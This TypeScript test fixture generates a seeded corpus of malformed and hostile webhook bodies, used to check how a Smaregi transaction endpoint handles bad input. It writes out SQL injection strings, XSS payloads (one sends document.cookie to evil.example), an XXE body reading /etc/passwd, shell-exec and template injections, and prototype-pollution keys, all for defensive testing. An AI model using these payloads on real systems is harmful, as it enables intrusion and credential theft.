import { DEFAULT_WEBHOOK_MAX_BYTES } from "../../src/modules/smaregi/inbox"
import { encodeForm, makePushEnvelope, makePushParams } from "../../src/smaregi/__fixtures__/push-bodies"
import { saleScenario } from "../../src/smaregi/__fixtures__/scenarios"
import type { SmaregiTransaction } from "../../src/smaregi/transaction-schema"

// The corpus of bad-input.spec.ts: malformed and hostile webhook bodies, reproducible from a seed.

export const SEED = Number(process.env.BAD_INPUT_SEED ?? 20261128)
export const SECRET = "bad-input-agreement-0001"
export const URL = "/hooks/smaregi/transactions"
export const FORM = "application/x-www-form-urlencoded; charset=UTF-8"
export const AUTH_QUERY = `?agreementId=${SECRET}`
export const LIMIT = DEFAULT_WEBHOOK_MAX_BYTES

/**
 * `stored`: passes authentication, must be answered 200 or 400 and leave one smaregi_request row.
 * `too_large`: over the body limit — refused with 413 before the body is read, so before authentication.
 * `accepted` (optional): a well-formed envelope carrying bad values; must be answered 200.
 * `orders`: head ids of this case that are valid sales and must become orders; every other head must not.
 */
export type Case = {
  name: string
  body: string | Buffer
  contentType?: string | null
  query?: string
  expect: "stored" | "too_large"
  accepted?: boolean
  heads?: string[]
  orders?: string[]
}

// mulberry32: small, seedable, good enough to spread cases.
function prng(seed: number) {
  let a = seed >>> 0
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  const int = (min: number, max: number) => min + Math.floor(next() * (max - min + 1))
  const pick = <T>(list: readonly T[]): T => list[int(0, list.length - 1)]!
  return { next, int, pick }
}

const SQL = [
  "'; DROP TABLE smaregi_transaction; --",
  "1 OR 1=1",
  "' UNION SELECT access_token FROM smaregi_connection --",
  "1); DELETE FROM \"order\"; --",
  "$$; TRUNCATE smaregi_request; $$",
  "?; SELECT pg_sleep(10); --",
  "\\'; COPY (SELECT 1) TO PROGRAM 'id'; --",
]
const HTML = [
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  '"><svg/onload=fetch("//evil.example/"+document.cookie)>',
  "{{constructor.constructor('return process')()}}",
  "${process.exit(1)}",
  "javascript:alert(1)",
  "<!--#exec cmd=\"/bin/sh\"-->",
]
const ODD_TEXT = [
  "\u202eevil\u202c",
  "zero\u200bwidth\ufeff",
  "𠮷野家🍣🍺",
  "e\u0301\u0301\u0301\u0301\u0301",
  "\\u0000\\ud800",
  "%00%0d%0a",
  "\r\nSet-Cookie: x=1",
]
const HEAD_FIELDS = ["total", "subtotal", "storeId", "terminalId", "customerCode", "customerId", "updDateTime", "memo", "cancelDivision", "transactionHeadDivision", "spendPoint", "newPoint"] as const
const DETAIL_FIELDS = ["productCode", "quantity", "price", "salesPrice", "color", "size", "taxDivision", "transactionDetailDivision"] as const
const NON_SCALARS: unknown[] = [{}, [], true, false, { $gt: "" }, [1, 2], { a: { b: { c: 1 } } }, [[["x"]]], { toString: "x" }]

export function buildCorpus(seed: number): Case[] {
  const r = prng(seed)
  const cases: Case[] = []
  let nextId = 700000
  const id = () => String(nextId++)
  const sale = (overrides: { productCode?: string } = {}): SmaregiTransaction => {
    const headId = id()
    return saleScenario({ id: headId, productCode: overrides.productCode ?? `NOPE-${headId}` })
  }
  const form = (fields: Record<string, string>) => encodeForm({ agreementId: SECRET, ...fields })
  const push = (txs: SmaregiTransaction[], params = makePushParams(txs)) => form({ proc_name: "transaction_send", params })
  // A case whose body ends up over the limit (the deepest nesting cases under the 1 MB default) must get 413.
  const add = (c: Omit<Case, "expect"> & { expect?: Case["expect"] }) =>
    cases.push(Buffer.byteLength(c.body) > LIMIT ? { ...c, expect: "too_large", accepted: false, orders: [] } : { expect: "stored", ...c })
  const heads = (txs: SmaregiTransaction[]) => txs.map((t) => t.head.transactionHeadId)
  const deep = (depth: number, open: string, close: string, core = "1") => open.repeat(depth) + core + close.repeat(depth)

  // 1. truncated params JSON (form body)
  for (let i = 0; i < 25; i++) {
    const params = makePushParams([sale()])
    add({ name: `truncated params #${i}`, body: push([], params.slice(0, r.int(0, params.length - 1))) })
  }

  // 2. truncated raw JSON bodies, agreementId in the query
  for (let i = 0; i < 15; i++) {
    const text = r.pick([
      () => JSON.stringify({ proc_name: "transaction_send", params: makePushParams([sale()]) }),
      () => JSON.stringify(makePushEnvelope([sale()])),
      () => JSON.stringify({ params: makePushEnvelope([sale()]) }),
    ])()
    add({ name: `truncated JSON body #${i}`, body: text.slice(0, r.int(1, text.length - 1)), contentType: "application/json", query: AUTH_QUERY })
  }

  // 3. wrong types where the schema wants a string, number or null
  for (let i = 0; i < 25; i++) {
    const tx = sale()
    const onHead = r.next() < 0.6
    const field = onHead ? r.pick([...HEAD_FIELDS, "transactionHeadId"]) : r.pick([...DETAIL_FIELDS, "transactionDetailId"])
    const value = r.pick(NON_SCALARS)
    const row = (onHead ? tx.head : tx.details[0]!) as Record<string, unknown>
    row[field] = value
    add({ name: `wrong type ${onHead ? "head" : "detail"}.${field}=${JSON.stringify(value)}`, body: push([tx]), heads: heads([tx]) })
  }

  // 4. huge strings (some over the body limit)
  for (let i = 0; i < 16; i++) {
    const unknownProduct = r.pick(["X".repeat(r.int(1000, 200_000)), `NOPE-${"ü".repeat(r.int(10, 50_000))}`])
    const tx = sale({ productCode: unknownProduct })
    const size = i < 3 ? LIMIT + r.int(1, 600_000) : r.int(10_000, 1_200_000)
    const filler = r.pick(["a", "あ", "🍣", "%", "&", "="])
    const text = filler.repeat(Math.max(1, Math.floor(size / Buffer.byteLength(encodeURIComponent(filler)))))
    const field = r.pick(["memo", "staffName", "receiptMemo", "storeCode"])
    ;(tx.head as Record<string, unknown>)[field] = text
    const body = push([tx])
    add({
      name: `huge ${field} (${body.length} bytes, ${filler})`,
      body,
      expect: Buffer.byteLength(body) > LIMIT ? "too_large" : "stored",
      accepted: Buffer.byteLength(body) <= LIMIT,
      heads: heads([tx]),
    })
  }

  // 5. deep nesting
  const depths = [64, 500, 5_000, 20_000, 100_000]
  for (let i = 0; i < 16; i++) {
    const depth = r.pick(depths)
    const kind = i % 8
    if (kind === 0) add({ name: `deep unterminated array params (${depth})`, body: push([], "[".repeat(depth)) })
    else if (kind === 1) add({ name: `deep unterminated object params (${depth})`, body: push([], '{"a":'.repeat(depth)) })
    else if (kind === 2) add({ name: `deep valid array params (${depth})`, body: push([], deep(depth, "[", "]")) })
    else if (kind === 3) {
      const tx = sale({ productCode: `DEEP-${depth}` })
      const params = makePushParams([tx]).replace('"transactionHeadId":', `"nested":${deep(depth, "[", "]")},"transactionHeadId":`)
      add({ name: `deep extra field in a head (${depth})`, body: push([], params), accepted: true, heads: heads([tx]) })
    } else if (kind === 4) {
      const tx = sale({ productCode: `DEEP-${depth}` })
      const params = makePushParams([tx]).replace('"transactionDetailId":', `"nested":${deep(depth, '{"a":', "}")},"transactionDetailId":`)
      add({ name: `deep extra field in a detail (${depth})`, body: push([], params), accepted: true, heads: heads([tx]) })
    } else if (kind === 5) {
      add({ name: `deep JSON body (${depth})`, body: deep(depth, '{"params":', "}", "null"), contentType: "application/json", query: AUTH_QUERY })
    } else if (kind === 6) {
      const q = Array.from({ length: Math.min(depth, 200) }, () => "[a]").join("")
      add({ name: `deep query string (${Math.min(depth, 200)})`, body: push([sale({ productCode: "NOPE" })]), query: `${AUTH_QUERY}&x${q}=1&params${q}=1`, accepted: true })
    } else {
      add({ name: `deep table rows (${depth})`, body: push([], `{"data":[{"table_name":"TransactionHead","rows":${deep(depth, "[", "]", '{"transactionHeadId":"1"}')}}]}`) })
    }
  }

  // 6. wrong encodings
  for (let i = 0; i < 20; i++) {
    const kind = i % 10
    const tx = sale({ productCode: `ENC-${i}` })
    const text = push([tx])
    if (kind === 0) {
      const bytes = Buffer.from(text)
      const at = r.int(0, bytes.length - 1)
      const junk = Buffer.from(Array.from({ length: r.int(1, 16) }, () => r.int(0x80, 0xff)))
      add({ name: `invalid UTF-8 bytes in a form body #${i}`, body: Buffer.concat([bytes.subarray(0, at), junk, bytes.subarray(at)]), query: AUTH_QUERY })
    } else if (kind === 1) {
      const params = Buffer.concat([Buffer.from(`proc_name=transaction_send&params=`), Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xff, 0xfe, 0xed, 0xa0, 0x80])])
      add({ name: `overlong / surrogate UTF-8 in params #${i}`, body: params, query: AUTH_QUERY })
    } else if (kind === 2) {
      add({ name: `UTF-16LE body, declared #${i}`, body: Buffer.from(text, "utf16le"), contentType: "application/x-www-form-urlencoded; charset=utf-16le", query: AUTH_QUERY, heads: heads([tx]) })
    } else if (kind === 3) {
      add({ name: `UTF-16LE body, undeclared #${i}`, body: Buffer.from(text, "utf16le"), query: AUTH_QUERY })
    } else if (kind === 4) {
      add({ name: `bogus charset #${i}`, body: text, contentType: "application/x-www-form-urlencoded; charset=x-klingon-9", heads: heads([tx]), accepted: true })
    } else if (kind === 5) {
      const sjis = Buffer.from([0x83, 0x65, 0x83, 0x58, 0x83, 0x67, 0x82, 0xa0])
      add({ name: `Shift_JIS bytes declared as shift_jis #${i}`, body: Buffer.concat([Buffer.from(`${text}&memo=`), sjis]), contentType: "application/x-www-form-urlencoded; charset=shift_jis", heads: heads([tx]), accepted: true })
    } else if (kind === 6) {
      add({ name: `BOM before a JSON body #${i}`, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(makePushEnvelope([tx])))]), contentType: "application/json", query: AUTH_QUERY, heads: heads([tx]) })
    } else if (kind === 7) {
      add({ name: `latin1 declared, UTF-8 sent #${i}`, body: text.replace("proc_name", "memo=caf%C3%A9&proc_name"), contentType: "application/x-www-form-urlencoded; charset=iso-8859-1", heads: heads([tx]), accepted: true })
    } else if (kind === 8) {
      const noise = Buffer.from(Array.from({ length: r.int(16, 4096) }, () => r.int(0, 255)))
      add({ name: `binary noise (${noise.length} bytes) #${i}`, body: noise, contentType: r.pick([FORM, "application/octet-stream", "application/json", null]), query: AUTH_QUERY })
    } else {
      add({ name: `params double-encoded #${i}`, body: form({ params: encodeURIComponent(makePushParams([tx])) }) })
    }
  }

  // 7. percent garbage
  const garbage = ["%", "%Z", "%ZZ", "%E3%81", "%C0%AF", "%00", "%%%", "+++", "%u3042", "%FF%FE", "%2", "%e3%81%82%"]
  for (let i = 0; i < 15; i++) {
    const parts = Array.from({ length: r.int(1, 6) }, () => r.pick(garbage)).join("")
    const where = r.int(0, 2)
    const params = encodeURIComponent(makePushParams([sale()]))
    const body =
      where === 0
        ? `agreementId=${SECRET}&proc_name=transaction_send&params=${parts}${params}`
        : where === 1
          ? `agreementId=${SECRET}&proc_name=transaction_send&params=${params.slice(0, r.int(1, params.length))}${parts}`
          : `agreementId=${SECRET}&${parts}=${parts}&params=${parts}`
    add({ name: `percent garbage ${JSON.stringify(parts)} at ${where}`, body })
  }

  // 8. missing or malformed tables
  const tables: Array<[string, unknown]> = [
    ["data empty", { data: [] }],
    ["data null", { data: null }],
    ["data object", { data: {} }],
    ["data string", { data: "TransactionHead" }],
    ["no data key", { rows: [] }],
    ["only TransactionDetail", { data: [makePushEnvelope([sale()]).data[1]] }],
    ["misspelt table", { data: [{ table_name: "TransactionHeads", rows: [sale().head] }] }],
    ["table_name number", { data: [{ table_name: 1, rows: [sale().head] }] }],
    ["table_name empty", { data: [{ table_name: "", rows: [sale().head] }] }],
    ["rows null", { data: [{ table_name: "TransactionHead", rows: null }] }],
    ["rows object", { data: [{ table_name: "TransactionHead", rows: { 0: sale().head } }] }],
    ["rows string", { data: [{ table_name: "TransactionHead", rows: "[]" }] }],
    ["rows empty", { data: [{ table_name: "TransactionHead", rows: [] }] }],
    ["head row null", { data: [{ table_name: "TransactionHead", rows: [null] }] }],
    ["head row number", { data: [{ table_name: "TransactionHead", rows: [1] }] }],
    ["head row string", { data: [{ table_name: "TransactionHead", rows: ["transactionHeadId"] }] }],
    ["head without id", { data: [{ table_name: "TransactionHead", rows: [{ total: "1" }] }] }],
    ["head id empty", { data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "" }] }] }],
    ["head id letters", { data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "abc" }] }] }],
    ["head id negative", { data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "-1" }] }] }],
    ["head id decimal", { data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "1.5" }] }] }],
    ["head id full-width digits", { data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "１２３" }] }] }],
    ["detail without head", { data: [{ table_name: "TransactionHead", rows: [sale().head] }, { table_name: "TransactionDetail", rows: [{ ...sale().details[0], transactionHeadId: "1" }] }] }],
  ]
  for (const [name, envelope] of tables) add({ name: `tables: ${name}`, body: push([], JSON.stringify(envelope)) })
  {
    const tx = sale()
    add({ name: "tables: duplicate heads", body: push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [tx.head, tx.head] }] })) })
    add({ name: "tables: duplicate details", body: push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [tx.head] }, { table_name: "TransactionDetail", rows: [tx.details[0], tx.details[0]] }] })) })
    const headOnly = sale()
    add({ name: "tables: a sale head without details", body: push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [headOnly.head] }] })), accepted: true, heads: heads([headOnly]) })
    const extra = sale({ productCode: "NOPE-EXTRA" })
    add({ name: "tables: unknown extra tables", body: push([], JSON.stringify({ data: [...makePushEnvelope([extra]).data, { table_name: "Customer", rows: [{ customerId: "1" }] }, { table_name: "__proto__", rows: [] }] })), accepted: true, heads: heads([extra]) })
  }

  // 9. SQL and HTML in fields
  for (let i = 0; i < 24; i++) {
    const hostile = r.pick([...SQL, ...HTML, ...ODD_TEXT])
    const kind = i % 4
    if (kind === 0) {
      const tx = sale({ productCode: hostile })
      add({ name: `hostile productCode ${JSON.stringify(hostile)}`, body: push([tx]), accepted: true, heads: heads([tx]) })
    } else if (kind === 1) {
      const tx = sale()
      ;(tx.head as Record<string, unknown>).transactionHeadId = hostile
      add({ name: `hostile transactionHeadId ${JSON.stringify(hostile)}`, body: push([tx]) })
    } else if (kind === 2) {
      const tx = sale({ productCode: "TSHIRT-NAVY-M" })
      for (const field of ["memo", "staffName", "storeCode", "receiptMemo"]) (tx.head as Record<string, unknown>)[field] = hostile
      ;(tx.details[0] as Record<string, unknown>).productName = hostile
      add({ name: `hostile free text ${JSON.stringify(hostile)} on a valid sale`, body: push([tx]), accepted: true, heads: heads([tx]), orders: heads([tx]) })
    } else {
      const tx = sale({ productCode: `SQLKEY-${i}` })
      const params = makePushParams([tx]).replace('"memo":', `${JSON.stringify(hostile)}:"x",${JSON.stringify(`${hostile}2`)}:${JSON.stringify(hostile)},"memo":`)
      add({ name: `hostile field names ${JSON.stringify(hostile)}`, body: push([], params), accepted: true, heads: heads([tx]) })
    }
  }
  add({ name: "hostile agreementId-looking extra parameter", body: `${push([sale({ productCode: "NOPE-AG" })])}&agreement_id=${encodeURIComponent(SQL[0]!)}`, accepted: true })

  // 10. arrays where objects are expected
  {
    const tx = sale()
    const arrays: Array<[string, string, string | null, string?]> = [
      ["params is an array", push([], "[]"), FORM],
      ["params is an array of envelopes", push([], JSON.stringify([makePushEnvelope([tx])])), FORM],
      ["data holds arrays", push([], JSON.stringify({ data: [[tx.head]] })), FORM],
      ["table is an array", push([], JSON.stringify({ data: [["TransactionHead", [tx.head]]] })), FORM],
      ["head row is an array", push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [Object.values(tx.head)] }] })), FORM],
      ["rows nested in arrays", push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [[tx.head]] }] })), FORM],
      ["JSON body is an array", JSON.stringify([{ params: makePushParams([tx]) }]), "application/json", AUTH_QUERY],
      ["JSON body is a string", JSON.stringify(makePushParams([tx])), "application/json", AUTH_QUERY],
      ["JSON body is null", "null", "application/json", AUTH_QUERY],
      ["JSON body is a number", "12345", "application/json", AUTH_QUERY],
      ["params[] form field", `agreementId=${SECRET}&params[]=${encodeURIComponent(makePushParams([tx]))}`, FORM],
      ["params as a qs object in the query", "", FORM, `${AUTH_QUERY}&params[data][0][table_name]=TransactionHead&params[data][0][rows][0][transactionHeadId]=1`],
      ["params as a qs array in the query", "", FORM, `${AUTH_QUERY}&params[0]=a&params[1]=b`],
      ["agreementId as an array in the query", "", FORM, `?agreementId[]=${SECRET}&agreementId[]=x&params=%7B%7D`],
      ["params as a JSON array of strings", push([], JSON.stringify(["TransactionHead", "TransactionDetail"])), FORM],
    ]
    for (const [name, body, contentType, query] of arrays) {
      add({ name: `arrays: ${name}`, body, contentType, query })
    }
  }

  // 11. prototype-pollution keys
  {
    const pollutedHead = (key: string) => {
      const tx = sale({ productCode: `PROTO-${key}` })
      return { tx, params: makePushParams([tx]).replace('"memo":', `${JSON.stringify(key)}:{"polluted":"yes","isAdmin":true},"memo":`) }
    }
    for (const key of ["__proto__", "constructor", "prototype", "__defineGetter__", "hasOwnProperty", "toString", "valueOf"]) {
      const { tx, params } = pollutedHead(key)
      add({ name: `proto key ${key} in a head row`, body: push([], params), accepted: true, heads: heads([tx]) })
    }
    const tx = sale({ productCode: "PROTO-BODY" })
    add({ name: "proto: JSON body with __proto__", body: `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"params":${JSON.stringify(makePushParams([tx]))}}`, contentType: "application/json", query: AUTH_QUERY, accepted: true, heads: heads([tx]) })
    add({ name: "proto: envelope with __proto__ data", body: push([], '{"__proto__":{"data":[{"table_name":"TransactionHead","rows":[{"transactionHeadId":"1"}]}]}}') })
    add({ name: "proto: form keys", body: `${push([sale({ productCode: "PROTO-FORM" })])}&__proto__[polluted]=yes&constructor[prototype][polluted]=yes&__proto__=x`, accepted: true })
    add({ name: "proto: query keys", body: push([sale({ productCode: "PROTO-QUERY" })]), query: `${AUTH_QUERY}&__proto__[polluted]=yes&constructor[prototype][polluted]=yes`, accepted: true })
    add({ name: "proto: transactionHeadId __proto__", body: push([], JSON.stringify({ data: [{ table_name: "TransactionHead", rows: [{ transactionHeadId: "__proto__" }] }] })) })
    add({ name: "proto: detail keyed by __proto__ head", body: push([], '{"data":[{"table_name":"TransactionHead","rows":[{"transactionHeadId":"1"}]},{"table_name":"TransactionDetail","rows":[{"transactionHeadId":"__proto__","transactionDetailId":"1"}]}]}') })
  }

  // 12. enormous numbers
  const huge = ["1e308", "1e309", "-1e309", "99999999999999999999999", "-99999999999999999999999", "9007199254740993", "Infinity", "NaN", "0x10", "1_000", "１０００"]
  for (let i = 0; i < 18; i++) {
    const tx = sale({ productCode: "TSHIRT-NAVY-M" })
    const value = r.pick(huge)
    const field = r.pick(["quantity", "salesPrice"])
    ;(tx.details[0] as Record<string, unknown>)[field] = value
    if (r.next() < 0.5) (tx.head as Record<string, unknown>).total = r.pick(huge)
    add({ name: `enormous detail.${field}=${value}`, body: push([tx]), accepted: true, heads: heads([tx]) })
  }
  {
    const longId = sale()
    longId.head.transactionHeadId = "9".repeat(100)
    longId.details[0]!.transactionHeadId = longId.head.transactionHeadId
    ;(longId.details[0] as Record<string, unknown>).productCode = "NOPE-LONG-ID"
    add({ name: "a 100-digit transactionHeadId with an unknown product", body: push([longId]), accepted: true, heads: heads([longId]) })
    add({ name: "JSON number ids 1e21", body: push([], '{"data":[{"table_name":"TransactionHead","rows":[{"transactionHeadId":1e21}]}]}') })
    add({ name: "JSON number total 1e400", body: push([], makePushParams([sale({ productCode: "NOPE-1E400" })]).replace(/"total":"\d+"/, '"total":1e400')) })
    add({ name: "impossible dates", body: push([], makePushParams([sale({ productCode: "NOPE-DATE" })]).replace(/"updDateTime":"[^"]+"/g, '"updDateTime":"9999-99-99 99:99:99"')), accepted: true })
  }

  // 13. NUL bytes
  for (let i = 0; i < 10; i++) {
    const kind = i % 5
    const tx = sale({ productCode: `NUL-${i}` })
    if (kind === 0) {
      ;(tx.head as Record<string, unknown>).memo = "a\u0000b"
      add({ name: `escaped NUL in a value #${i}`, body: push([tx]), accepted: true, heads: heads([tx]) })
    } else if (kind === 1) {
      add({ name: `raw NUL bytes in the form body #${i}`, body: `${push([tx])}\u0000\u0000&x=\u0000`, heads: heads([tx]) })
    } else if (kind === 2) {
      add({ name: `NUL in a key #${i}`, body: push([], makePushParams([tx]).replace('"memo":', '"me\\u0000mo":"x","memo":')), accepted: true, heads: heads([tx]) })
    } else if (kind === 3) {
      add({ name: `NUL in table_name #${i}`, body: push([], JSON.stringify({ data: [{ table_name: "Transaction\u0000Head", rows: [tx.head] }] })) })
    } else {
      ;(tx.head as Record<string, unknown>).transactionHeadId = `1\u00002`
      add({ name: `NUL in transactionHeadId #${i}`, body: push([tx]) })
    }
  }

  // 14. odd bodies and content types
  const odd: Array<[string, string | Buffer, string | null]> = [
    ["empty body", "", FORM],
    ["whitespace body", " \r\n\t ", FORM],
    ["lone surrogate escapes", push([], makePushParams([sale({ productCode: "NOPE-SURR" })]).replace('"memo":null', '"memo":"\\ud800\\udfff\\udc00"')), FORM],
    ["multipart garbage", `--x\r\nContent-Disposition: form-data; name="params"\r\n\r\n{"data":[]}\r\n--x--`, "multipart/form-data; boundary=x"],
    ["XML body", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, "application/xml"],
    ["HTML body", "<html><body><form>params</form></body></html>", "text/html"],
    ["no content type", push([sale({ productCode: "NOPE-NOCT" })]), null],
    ["repeated params (first wins)", `${push([], "garbage")}&params=${encodeURIComponent(makePushParams([sale()]))}`, FORM],
    ["form with only agreementId", `agreementId=${SECRET}`, FORM],
    ["huge number of form fields", `agreementId=${SECRET}&${Array.from({ length: 20_000 }, (_, k) => `f${k}=${k}`).join("&")}`, FORM],
  ]
  for (const [name, body, contentType] of odd) add({ name: `odd: ${name}`, body, contentType, query: AUTH_QUERY })
  {
    const many = Array.from({ length: 40 }, (_, k) => saleScenario({ id: id(), productCode: `NOPE-MANY-${k}` }))
    add({ name: "odd: 40 heads of unknown products in one push", body: push(many), accepted: true, heads: heads(many) })
  }
  return cases
}
